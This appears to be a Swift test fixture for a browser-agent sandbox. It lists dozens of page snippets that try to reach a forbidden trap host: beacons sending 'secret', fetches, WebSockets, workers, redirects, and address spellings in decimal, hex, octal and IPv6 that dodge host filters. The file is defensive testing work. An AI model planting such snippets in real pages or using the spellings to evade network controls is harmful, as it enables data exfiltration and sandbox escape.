//===----------------------------------------------------------------------===//
// This source file is part of Stepcast: live steps of browser agents.
// SPDX-License-Identifier: Apache-2.0
//===----------------------------------------------------------------------===//

import Testing

/// A way in which a page may try to reach a host. `TRAP` stands for the forbidden server, `http://127.0.0.2:port`, `WSTRAP` for
/// the same as a WebSocket.
struct Escape: Sendable, CustomTestStringConvertible {
    var name: String
    /// The page.
    var html: String
    /// What else the site answers.
    var answers: [String: SiteAnswer] = [:]

    var testDescription: String { name }

    init(_ name: String, _ html: String, _ answers: [String: SiteAnswer] = [:]) {
        self.name = name
        self.html = html
        self.answers = answers
    }

    private init(_ name: String, script: String, _ answers: [String: SiteAnswer] = [:]) {
        self.init(name, "<p id=p>page</p><script>\(script)</script>", answers)
    }

    private static func javaScript(_ body: String) -> SiteAnswer { SiteAnswer(type: "text/javascript", body: body) }

    static let all: [Escape] = resources + navigations + scripts + workers

    private static let resources = [
        Escape("image", "<img src=TRAP/i.png>"),
        Escape("image set", "<img srcset='TRAP/i.png 1x, TRAP/j.png 2x'>"),
        Escape("script", "<script src=TRAP/s.js></script>"),
        Escape("module", "<script type=module>import 'TRAP/m.js'</script>"),
        Escape("style sheet", "<link rel=stylesheet href=TRAP/s.css>"),
        Escape("style import", "<style>@import url(TRAP/s.css);</style>"),
        Escape("style image", "<style>body{background:url(TRAP/b.png)}</style>"),
        Escape("font", "<style>@font-face{font-family:f;src:url(TRAP/f.woff2)}p{font-family:f}</style><p>text</p>"),
        Escape("frame", "<iframe src=TRAP/f></iframe>"),
        Escape("frame in a frame", "<iframe srcdoc='<iframe src=TRAP/f></iframe>'></iframe>"),
        Escape("object", "<object data=TRAP/o.html type=text/html></object>"),
        Escape("embed", "<embed src=TRAP/e.html type=text/html>"),
        Escape("video", "<video src=TRAP/v.mp4 preload=auto></video>"),
        Escape("prefetch", "<link rel=prefetch href=TRAP/p>"),
        Escape("preload", "<link rel=preload as=script href=TRAP/p.js>"),
        Escape("module preload", "<link rel=modulepreload href=TRAP/p.js>"),
        Escape("preconnect", "<link rel=dns-prefetch href=TRAP><link rel=preconnect href=TRAP><img src=TRAP/i.png>"),
        Escape(
            "report of a policy",
            "<img src=/x.png>",
            [
                "/": SiteAnswer(
                    headers: ["Content-Security-Policy": "img-src 'none'; report-uri TRAP/r"],
                    body: "<img src=/x.png>"
                )
            ]
        ),
        Escape("name that leads there", "<img src=http://evil.test:PORT/i.png>"),
        Escape("decimal spelling", "<img src=http://2130706434:PORT/i.png>"),
        Escape("hexadecimal spelling", "<img src=http://0x7f.0.0.0x2:PORT/i.png>"),
        Escape("octal spelling", "<img src=http://0177.0.0.02:PORT/i.png>"),
        Escape("short spelling", "<img src=http://127.2:PORT/i.png>"),
        Escape("spelling as IPv6", "<img src=http://[::ffff:127.0.0.2]:PORT/i.png>"),
    ]

    private static let navigations = [
        Escape("redirect", "", ["/": SiteAnswer(status: "302 Found", headers: ["Location": "TRAP/r"])]),
        Escape(
            "redirect of an image",
            "<img src=/i.png>",
            ["/i.png": SiteAnswer(status: "307 Temporary Redirect", headers: ["Location": "TRAP/i.png"])]
        ),
        Escape("meta refresh", "<meta http-equiv=refresh content='0;url=TRAP/m'>"),
        Escape("location", script: "setTimeout(() => location = 'TRAP/l', 50)"),
        Escape("new window", script: "window.open('TRAP/w')"),
        Escape("new window without an opener", script: "window.open('TRAP/w', '_blank', 'noopener')"),
        Escape("link", "<a id=a href=TRAP/a target=_blank rel=noopener>x</a><script>a.click()</script>"),
        Escape("ping of a link", "<a id=a href=#x ping=TRAP/p>x</a><script>a.click()</script>"),
        Escape("download", "<a id=a href=TRAP/d download>x</a><script>a.click()</script>"),
        Escape(
            "form",
            "<form id=f method=post action=TRAP/f><input name=q value=1></form><script>setTimeout(() => f.submit(), 50)</script>"
        ),
        Escape(
            "form in a data: frame",
            "<iframe src=\"data:text/html,<form id=f method=post action='TRAP/f'><input name=q></form><script>f.submit()</script>\"></iframe>"
        ),
        Escape(
            "script in a blob: frame",
            script: """
                const page = new Blob(["<script>fetch('TRAP/b', {mode: 'no-cors'})</scr" + "ipt>"], {type: 'text/html'});
                const frame = document.createElement('iframe');
                frame.src = URL.createObjectURL(page);
                document.body.append(frame);
                """
        ),
        Escape(
            "script in a javascript: frame",
            "<iframe src=\"javascript:'<img src=TRAP/j.png>'\"></iframe>"
        ),
    ]

    private static let scripts = [
        Escape("fetch", script: "fetch('TRAP/f', {mode: 'no-cors'}).catch(() => {})"),
        Escape("XMLHttpRequest", script: "const x = new XMLHttpRequest(); x.open('GET', 'TRAP/x'); x.send()"),
        Escape("beacon", script: "navigator.sendBeacon('TRAP/b', 'secret')"),
        Escape(
            "fetch that outlives the page",
            script: "fetch('TRAP/k', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'})"
        ),
        Escape("event source", script: "new EventSource('TRAP/e')"),
        Escape("WebSocket", script: "new WebSocket('WSTRAP/w')"),
        Escape("image object", script: "new Image().src = 'TRAP/i.png'"),
        Escape("dynamic import", script: "import('TRAP/m.js').catch(() => {})"),
    ]

    private static let workers = [
        Escape(
            "worker",
            script: "new Worker('/w.js')",
            ["/w.js": javaScript("fetch('TRAP/w', {mode: 'no-cors'})")]
        ),
        Escape(
            "script of a worker",
            script: "new Worker('/w.js')",
            ["/w.js": javaScript("importScripts('TRAP/s.js')")]
        ),
        Escape(
            "worker made of a blob",
            script: "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('WSTRAP/w')\"])))"
        ),
        Escape(
            "shared worker",
            script: "new SharedWorker('/w.js')",
            ["/w.js": javaScript("fetch('TRAP/w', {mode: 'no-cors'})")]
        ),
        Escape(
            "service worker",
            script: "navigator.serviceWorker.register('/sw.js')",
            [
                "/sw.js": javaScript(
                    "self.oninstall = e => e.waitUntil(fetch('TRAP/s', {mode: 'no-cors'}).catch(() => {}))"
                )
            ]
        ),
        Escape(
            "script of a service worker",
            script: "navigator.serviceWorker.register('/sw.js').catch(() => {})",
            ["/sw.js": javaScript("importScripts('TRAP/s.js')")]
        ),
        Escape(
            "worklet",
            script: "CSS.paintWorklet ? CSS.paintWorklet.addModule('TRAP/w.js') : fetch('TRAP/w.js')"
        ),
    ]

    /// The site's answers, with the trap in place of its names.
    func answers(trap: Trap) -> [String: SiteAnswer] {
        func filled(_ text: String) -> String {
            text.replacing("WSTRAP", with: "ws://\(Trap.host):\(trap.port)").replacing("TRAP", with: trap.url)
                .replacing("PORT", with: "\(trap.port)")
        }
        return ["/": SiteAnswer(body: "<!doctype html><title>page</title><body>\(html)")]
            .merging(answers) { $1 }
            .mapValues { answer in
                var answer = answer
                answer.body = filled(answer.body)
                answer.headers = answer.headers.mapValues { filled($0) }
                return answer
            }
    }
}
